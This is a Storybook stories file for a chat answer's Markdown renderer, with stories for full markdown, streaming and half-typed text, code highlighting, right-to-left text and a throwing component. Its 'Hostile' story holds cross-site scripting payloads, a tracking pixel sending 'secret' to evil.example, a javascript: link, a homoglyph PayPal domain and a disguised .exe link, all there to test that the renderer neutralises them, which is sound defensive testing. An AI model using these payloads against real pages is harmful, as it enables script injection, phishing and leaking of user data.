import type { Meta, StoryObj } from "@storybook/react-vite";
import { Markdown, type MarkdownProps, type SlotCodeProps } from "oneshot-chat/markdown";
import { useEffect, useState } from "react";
import { expect, waitFor } from "storybook/test";

const meta: Meta<MarkdownProps> = {
  title: "Markdown",
  component: Markdown,
  decorators: [
    (Story) => (
      <div className="oneshot-chat">
        <div className="osc-answer">
          <Story />
        </div>
      </div>
    ),
  ],
};

export default meta;

type Story = StoryObj<MarkdownProps>;

const EVERYTHING = `# Refunds and returns

You can send **anything** back within *30 days*, see [our policy](https://shop.example/policy). It costs
~~5 €~~ nothing[^1]. Print the label with \`npm run label\`, or ask <help@shop.example>.

## What to do

1. Pack it.
2. Print the label:

   \`\`\`sh
   npm run label -- --order=1234
   \`\`\`
3. Bring it to any shop.

- [x] Order found
- [ ] Parcel received
  - nested, with an image: ![the label](https://shop.example/label.png)

| Plan | Price | Delivery |
|:-----|------:|:--------:|
| Free | 0 €   | 5 days   |
| Pro  | 10 €  | 1 day    |

> Returned goods go to people who need them.
>
> — The shop

***

A line that ends here,\\
and one that follows. More at https://shop.example/returns.

[^1]: Within the country. Elsewhere it costs **9 €**.
`;

export const Everything: Story = {
  args: { text: EVERYTHING },
  play: async ({ canvas, userEvent }) => {
    await expect(canvas.getByRole("heading", { level: 3 })).toHaveTextContent(
      "Refunds and returns",
    );
    await expect(canvas.getByRole("columnheader", { name: "Price" })).toBeVisible();
    await expect(canvas.getByRole("checkbox", { name: "Done:" })).toBeChecked();
    await userEvent.click(canvas.getByRole("link", { name: "Footnote 1" }));
    await expect(canvas.getByText(/Within the country/).closest("li")).toHaveFocus();
  },
};

function Typed({ text, ...props }: MarkdownProps) {
  const [length, setLength] = useState(0);
  const isStreaming = length < text.length;
  useEffect(() => {
    if (!isStreaming) return undefined;
    const timer = setTimeout(() => setLength(length + 12), 16);
    return () => clearTimeout(timer);
  }, [length, isStreaming]);
  return <Markdown {...props} text={text.slice(0, length)} isStreaming={isStreaming} />;
}

/** The text grows as a model sends it. Half-typed marks are not visible. */
export const Streaming: Story = {
  args: { text: EVERYTHING },
  render: (args) => <Typed {...args} />,
  play: async ({ canvas }) => {
    await waitFor(() => expect(canvas.getByText(/Within the country/)).toBeVisible(), {
      timeout: 10_000,
    });
  },
};

/** Three texts that end in the middle of a bold word, a link and a table. */
export const HalfTyped: Story = {
  args: { text: "Bold as it is **typ", isStreaming: true },
  render: (args) => (
    <>
      <Markdown {...args} />
      <Markdown text="A link before its address is there: [our pol" isStreaming />
      <Markdown text={"| Plan | Pri"} isStreaming />
    </>
  ),
  play: async ({ canvas }) => {
    await expect(canvas.getByText("typ").tagName).toBe("STRONG");
    await expect(canvas.getByText(/our pol$/)).toBeVisible();
    await expect(canvas.getByRole("columnheader", { name: "Pri" })).toBeVisible();
  },
};

const KEYWORDS =
  /^(?:as|async|await|break|case|class|const|else|export|for|from|function|if|import|in|interface|let|new|of|return|type|while)$/;
const PIECES = /(\/\/.*|"[^"\n]*"|'[^'\n]*'|`[^`]*`|\b\d+\b|\b[a-z]+\b)/i;

/** A highlighter that is small enough for a story. A highlighter from npm is used in the same way. */
function HighlightedCode({ text, language, isBlock, className, children }: SlotCodeProps) {
  if (!isBlock || language !== "ts") return <code className={className}>{children}</code>;
  return (
    <code className={className}>
      {text.split(PIECES).map((piece, index) => (
        <span key={index} style={{ color: colourOf(piece) }}>
          {piece}
        </span>
      ))}
    </code>
  );
}

function colourOf(piece: string): string | undefined {
  if (piece.startsWith("//")) return "light-dark(#57606a, #a2abb9)";
  if (/^["'`]/.test(piece)) return "light-dark(#0a3069, #a5d6ff)";
  if (/^\d+$/.test(piece)) return "light-dark(#0550ae, #79c0ff)";
  return KEYWORDS.test(piece) ? "light-dark(#a40e26, #ff9a90)" : undefined;
}

const CODE = `\`\`\`ts
// Within 30 days of the purchase
export function canReturn(order: Order, now = Date.now()): boolean {
  const days = (now - order.boughtAt) / 86400000;
  return days <= 30 && order.state !== "returned";
}
\`\`\`
`;

/** The page colours code with a component of its own. */
export const HighlightedByThePage: Story = {
  args: { text: CODE, components: { code: HighlightedCode } },
  play: async ({ canvas }) => {
    await expect(canvas.getByText("export").tagName).toBe("SPAN");
    await expect(canvas.getByRole("button", { name: "Copy code" })).toBeVisible();
  },
};

export const RightToLeft: Story = {
  args: {
    text: `# סעיף ראשון

אפשר להחזיר **כל דבר** תוך \`30\` יום, ראו [את המדיניות](https://shop.example/policy).

- פריט ראשון
- פריט שני, with English in it

> ציטוט

An English paragraph in the same answer.

| תוכנית | מחיר |
|--------|-----:|
| חינם   | 0    |
`,
  },
};

/** The text tries to run a script, to load an image, and to hide where a link goes. */
export const Hostile: Story = {
  args: {
    text: `<script>alert(1)</script> <img src=x onerror=alert(1)>

![a picture that would report you](https://evil.example/pixel.png?q=secret)

[A script](javascript:alert(1)), [https://bank.example/login](https://evil.example/) and
[paypal](https://pаypal.com/login). An invoice: [\u202Efdp.exe](https://evil.example/a.exe).

${"> ".repeat(60)}deep
`,
  },
  play: async ({ canvas }) => {
    await expect(canvas.getByText(/<script>alert\(1\)<\/script>/)).toBeVisible();
    await expect(canvas.queryByRole("img")).not.toBeInTheDocument();
    await expect(canvas.queryByRole("link", { name: "A script" })).not.toBeInTheDocument();
    await expect(
      canvas.getByRole("link", { name: "https://bank.example/login (evil.example)" }),
    ).toBeVisible();
    await expect(canvas.getByRole("link", { name: "paypal (xn--pypal-4ve.com)" })).toBeVisible();
  },
};

/** A component of the page throws. The answer stays readable. */
export const BrokenComponent: Story = {
  parameters: { console: [/a mistake in the page's own component/] },
  args: {
    text: "An answer with a [link](https://shop.example).",
    components: {
      a: () => {
        throw new Error("a mistake in the page's own component");
      },
    },
  },
  play: async ({ canvas }) => {
    await expect(canvas.getByText(/An answer with a \[link\]/)).toBeVisible();
  },
};
